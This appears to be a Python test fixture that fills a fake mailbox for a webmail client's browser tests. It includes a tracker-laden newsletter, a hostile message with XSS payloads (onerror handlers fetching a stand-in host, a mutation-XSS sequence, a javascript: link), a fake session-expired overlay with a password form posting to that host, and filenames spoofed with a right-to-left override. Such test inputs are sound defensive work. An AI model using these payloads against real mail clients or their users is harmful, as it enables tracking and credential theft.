"""The mail that every browser test's mailbox holds. Delivered as mail is: without asking."""

from __future__ import annotations

TRACKERS = "http://tracker.example"
LINK = "http://shop.example/offer"
NEWSLETTER = "Autumn letter"
INVOICE = "Invoice 4711"
HOSTILE = "Please <b>verify</b>"
ATTACHED = "<script>alert(1)</script>"

_NEWSLETTER = f"""
<html><head><base href="{TRACKERS}/"><meta http-equiv="refresh" content="0;url={TRACKERS}/gone">
<link rel="stylesheet" href="{TRACKERS}/style.css">
<style>@import url({TRACKERS}/import.css); body {{ background: url({TRACKERS}/css.png) }}</style>
</head><body background="{TRACKERS}/body.png">
<h1>Autumn letter</h1>
<p>Read <a href="{LINK}">our offer</a> in peace.</p>
<img src="{TRACKERS}/pixel.gif" width="1" height="1" alt="">
<img srcset="{TRACKERS}/set.png 2x" alt="">
<div style="background-image: url('{TRACKERS}/inline.png')">warm words</div>
<video poster="{TRACKERS}/poster.png" src="{TRACKERS}/film.mp4" autoplay></video>
<audio src="{TRACKERS}/sound.mp3" autoplay></audio><object data="{TRACKERS}/object"></object>
<embed src="{TRACKERS}/embed"><iframe src="{TRACKERS}/frame"></iframe>
<svg><image href="{TRACKERS}/svg.png"></image><script href="{TRACKERS}/svg.js"></script></svg>
</body></html>
"""

_HOSTILE = f"""
<div style="position:fixed;inset:0;z-index:9999;background:red">Session expired</div>
<script>top.location = "{TRACKERS}/script"</script>
<img src=x onerror="fetch('{TRACKERS}/onerror')">
<form action="{TRACKERS}/form" method="post"><input name="password" autofocus>
<button>Go</button></form>
<a href="javascript:alert(1)">a trap</a>
<math><mtext><table><mglyph><style>
<img src=x onerror="fetch('{TRACKERS}/mxss')"></style></table></math>
"""


def mailbox(owner):
    """Return deliveries, the oldest first; subjects, names and files are as odd as they come."""
    return [
        _mail(owner, NEWSLETTER, sender="Kiosk", html=_NEWSLETTER, text="Read our offer."),
        _mail(
            owner,
            HOSTILE,
            sender="\uff21ntares \u202emoc.evil " + "very " * 30 + "long name",
            html=_HOSTILE,
            text="trap",
        ),
        _mail(
            owner,
            INVOICE,
            sender="Accounts",
            text="The invoice is attached.",
            attachments=[
                {
                    "filename": "in<b>voice</b> \u202efdp.html",
                    "content_type": "text/html",
                    "text": ATTACHED,
                }
            ],
        ),
    ]


def _mail(owner, subject, *, sender, **more):
    return {
        "sender": sender,
        "sender_email": "sender@mail.example",
        "to": owner,
        "subject": subject,
        "labels": ["INBOX", "UNREAD"],
        **more,
    }
